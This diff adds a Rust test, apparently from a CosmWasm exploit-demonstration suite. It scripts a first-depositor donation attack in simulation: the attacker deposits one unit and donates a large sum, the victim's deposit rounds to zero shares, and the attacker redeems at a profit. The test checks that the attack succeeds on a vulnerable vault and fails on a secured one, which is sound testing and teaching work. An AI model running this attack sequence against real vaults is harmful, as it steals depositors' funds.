@@ -0,0 +1,67 @@
+//! First-depositor share inflation via donation
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{coins, Empty, Uint128};
+use cw_multi_test::{Contract, ContractWrapper};
+
+use crate::contracts::share_rounding::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg, QueryMsg,
+};
+use crate::{ExploitSpec, Harness, ATOM};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "share_rounding",
+    description: "1-share deposit plus donation rounds the victim's deposit to 0 shares",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "donation attack was not profitable",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (attacker, victim) = (h.attacker.clone(), h.victim.clone());
+
+    let vault = h.deploy(
+        code(),
+        &InstantiateMsg {
+            denom: ATOM.to_string(),
+        },
+        &[],
+        "vault",
+    )?;
+    let before = h.balance(&attacker, ATOM);
+
+    h.execute(&attacker, &vault, &ExecuteMsg::Deposit {}, &coins(1, ATOM))?;
+    h.send(&attacker, &vault, &coins(1_000_000, ATOM))?;
+    h.execute(
+        &victim,
+        &vault,
+        &ExecuteMsg::Deposit {},
+        &coins(999_999, ATOM),
+    )?;
+    let shares: Uint128 = h.app.wrap().query_wasm_smart(
+        &vault,
+        &QueryMsg::Shares {
+            address: attacker.to_string(),
+        },
+    )?;
+    h.execute(&attacker, &vault, &ExecuteMsg::Redeem { shares }, &[])?;
+
+    ensure!(
+        h.balance(&attacker, ATOM) > before,
+        "donation attack was not profitable"
+    );
+    Ok(())
+}